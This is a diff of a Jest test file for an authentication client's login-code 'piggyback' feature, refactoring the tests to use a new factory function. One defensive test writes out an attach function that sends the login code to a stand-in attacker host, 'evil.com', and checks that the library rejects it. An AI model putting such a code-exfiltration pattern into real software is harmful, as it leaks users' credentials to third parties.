@@ -1,20 +1,21 @@
 import { describe, expect, test } from '@jest/globals'
-import type { Grant, Piggyback } from '../../src/index'
+import type { Grant } from '../../src/index'
+import { piggyback, type PiggybackOptions } from '../../src/piggyback'
 import { createWorld, outcomes, type World } from '../support/phone'
 
-const piggyback: Piggyback = {
+const inHeader: PiggybackOptions<unknown> = {
   attach: (request, code) => ({ ...request, header: { ...request.header, 'x-code': code } }),
   parse: ({ data }) => (data as { session?: Grant } | null)?.session ?? null,
 }
 
 /** A backend whose orders take a login code in a header, and come with the session then. */
-function setUp(options: Partial<Piggyback> = {}) {
+function setUp(options: Partial<PiggybackOptions<unknown>> = {}) {
   const world = createWorld({ server: { publicPaths: ['/orders', '/orders/*'] } })
   world.server.route(/^\/orders/, ({ header, openid, url }) => {
     if ('x-code' in header) return { data: { url, session: { token: world.server.issue() } } }
     return openid === null ? { statusCode: 401 } : { data: { url } }
   })
-  return { world, auth: world.auth({ piggyback: { ...piggyback, ...options } }) }
+  return { world, auth: world.auth({ piggyback: piggyback({ ...inHeader, ...options }) }) }
 }
 
 /** The login codes that came with a request for orders. */
@@ -35,7 +36,7 @@ test('the answer tells the time by the server’s clock, by which the session be
   const HOUR = 3_600_000
   const world = createWorld({ server: { skew: -HOUR, publicPaths: ['/orders'] } })
   world.server.route('/orders', () => ({ data: { session: { token: world.server.issue(), expiresIn: 60 } } }))
-  const auth = world.auth({ piggyback })
+  const auth = world.auth({ piggyback: piggyback(inHeader) })
   await world.until(auth.request({ url: '/orders' }))
   const { obtainedAt = 0 } = auth.session ?? {}
   expect(Math.abs(obtainedAt - (world.clock.now() - HOUR))).toBeLessThan(1000)
@@ -154,7 +155,10 @@ test('a logout while the code is on its way: aborted, no session', async () => {
 
 describe('functions that are wrong', () => {
   test('attach may not take the code to another origin', async () => {
-    const attach: Piggyback['attach'] = (request, code) => ({ ...request, url: `https://evil.com/${code}` })
+    const attach: PiggybackOptions<unknown>['attach'] = (request, code) => ({
+      ...request,
+      url: `https://evil.com/${code}`,
+    })
     const { world, auth } = setUp({ attach })
     await expect(world.until(auth.request({ url: '/orders' }))).rejects.toMatchObject({
       code: 'UNTRUSTED_ORIGIN',
@@ -176,13 +180,14 @@ describe('functions that are wrong', () => {
 describe('a renewal by a request, where it fails: the present session holds, and the request', () => {
   async function renewal(method: 'GET' | 'POST', prepare: (world: World) => unknown) {
     const world = createWorld({ server: { publicPaths: ['/orders'] } })
-    const parse: Piggyback['parse'] = (response) => spoilt.parse?.(response) ?? piggyback.parse(response)
-    const auth = world.auth({ piggyback: { ...piggyback, parse } })
+    const parse: PiggybackOptions<unknown>['parse'] = (response) =>
+      spoilt.parse?.(response) ?? inHeader.parse(response)
+    const auth = world.auth({ piggyback: piggyback({ ...inHeader, parse }) })
     world.server.route('POST', '/login', () => ({ data: { token: world.server.issue(), expiresIn: 60 } }))
     await world.until(auth.ensureLogin())
     await world.advance(50_000)
     world.server.route('/orders', ({ openid }) => ({ statusCode: openid === null ? 503 : 200 }))
-    const spoilt = (prepare(world) ?? {}) as Partial<Piggyback>
+    const spoilt = (prepare(world) ?? {}) as Partial<PiggybackOptions<unknown>>
     const [result] = await world.until(outcomes([auth.request({ url: '/orders', method })]))
     return { result, sends: world.history.sends('/orders').map(({ token }) => token), auth }
   }
